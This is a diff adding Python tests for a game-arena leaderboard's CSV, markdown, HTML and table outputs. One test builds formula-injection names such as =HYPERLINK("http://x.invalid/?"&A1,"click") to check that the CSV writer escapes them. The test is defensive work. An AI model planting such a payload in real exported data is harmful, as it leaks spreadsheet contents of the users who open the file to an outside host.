@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
@@ -142,3 +143,67 @@ def test_outputs_for_a_two_entry_model_fallback(tmp_path: Path):
     assert ratings.error_method == "model"
     paths = write_outputs(standings, ratings, tmp_path / "nested" / "dir")
     assert json.loads(paths["json"].read_text())["method"]["error_bars"] == "model"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_start_a_formula(tmp_path: Path, start: str):
+    """A name a spreadsheet would run (=HYPERLINK(...), +cmd, -2+3, @SUM) is written
+    with the leading-quote rule; numbers (negative scores) stay numbers."""
+    evil = f"{start}HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"
+    standings = sample_standings()
+    games = [
+        dataclasses.replace(g, entry_a=evil, scores_b=-120) if g.entry_a == "alpha" else g
+        for g in standings.games
+    ]
+    standings = dataclasses.replace(
+        standings,
+        games=games,
+        entries=[evil if e == "alpha" else e for e in standings.entries],
+        provenance={**standings.provenance, evil: {"image_id": "@img", "sdk_version": "-1", "engine_version": "+2"}},
+        results=results_from_games(games),
+    )
+    paths = write_outputs(standings, fit(standings.results), tmp_path)
+    with paths["csv"].open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    mine = [r for r in rows if r["entry_a"].lstrip("'") == evil]
+    assert mine
+    for r in mine:
+        assert r["entry_a"] == "'" + evil
+        assert (r["image_a"], r["sdk_a"], r["engine_a"]) == ("'@img", "'-1", "'+2")
+        assert r["scores_b"] == "-120"  # a number, not text
+    for r in rows:
+        for column, value in r.items():
+            if column not in ("scores_a", "scores_b"):
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    # ratings.json keeps the exact name.
+    assert evil in {e["name"] for e in json.loads(paths["json"].read_text())["entries"]}
+
+
+def test_leaderboard_explains_itself(tmp_path: Path):
+    """Every column has a header (DQ included), the caption says what ± is and how it was
+    estimated, and it lists the rule overrides that make the hash differ from the preset's."""
+    from arena_sdk.engine import resolve_ruleset
+
+    rules = resolve_ruleset("pagat", {"max_hands": "40", "lose_floor": "-300"})
+    standings = dataclasses.replace(
+        sample_standings(), ruleset=rules.to_dict(), ruleset_hash=rules.hash
+    )
+    ratings = fit(standings.results)
+    table = rich_tables(standings, ratings)[0]
+    assert all(str(c.header).strip() for c in table.columns)
+    assert str(table.columns[-1].header) == "DQ"
+    console = Console(record=True, width=300)
+    console.print(table)
+    text = console.export_text()
+    assert "pagat + lose_floor=-300, max_hands=40" in text and rules.hash[:12] in text
+    assert "95% interval of each Elo" in text and "DQ: disqualified" in text
+    paths = write_outputs(standings, ratings, tmp_path)
+    md = paths["md"].read_text()
+    assert "| DQ |" in md and "lose\\_floor=\\-300" in md and "95% interval of each Elo" in md
+    page = paths["html"].read_text()
+    assert "pagat + lose_floor=-300, max_hands=40" in page and 'id="interval-note"' in page
+    # No ruleset known (an older store): the preset alone, no invented overrides.
+    plain = dataclasses.replace(standings, ruleset={})
+    console = Console(record=True, width=300)
+    console.print(rich_tables(plain, ratings)[0])
+    assert "rules pagat (hash" in console.export_text()
